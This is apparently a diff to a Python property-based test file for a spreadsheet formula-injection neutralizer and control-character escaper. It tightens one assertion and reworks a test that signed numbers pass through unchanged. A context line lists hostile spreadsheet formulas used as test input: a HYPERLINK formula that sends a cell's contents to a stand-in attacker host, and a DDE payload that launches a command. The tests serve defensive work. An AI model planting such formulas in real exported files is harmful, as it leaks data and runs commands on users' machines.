@@ -36,7 +36,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A
 def test_escaped_text_holds_no_control_and_reads_back_as_the_text(text):
     assume("\\x" not in text)  # then every \xNN of the shown text is an escape
     shown = escape_controls(text)
-    assert not RAW_CONTROL.search(shown) and "\t" not in shown.replace("\t", "") or "\t" in text
+    assert not RAW_CONTROL.search(shown)
     assert re.sub(r"\\x([0-9a-f]{2})", lambda m: chr(int(m.group(1), 16)), shown) == text
     assert escape_controls(shown) == shown  # nothing left to escape
 
@@ -48,11 +48,11 @@ def test_a_neutralized_cell_is_no_formula_and_reads_back_as_it_was(text):
     assert restore(cell) == text
 
 
-@given(st.floats(allow_nan=False) | st.integers().map(float))
-def test_numbers_are_untouched(number):
-    for text in (repr(number), f"{number:+}", str(number)):
-        assume(text.startswith(("-", "+")))
-        assert neutralize(text) == text
+@given(st.floats(allow_nan=False) | st.integers().map(float), st.booleans())
+def test_numbers_are_untouched(number, signed):
+    text = f"{number:+}" if signed else repr(number)
+    assume(text.startswith(("-", "+")))  # the cells a formula check would otherwise catch
+    assert neutralize(text) == text
 
 
 def _is_number(text: str) -> bool:
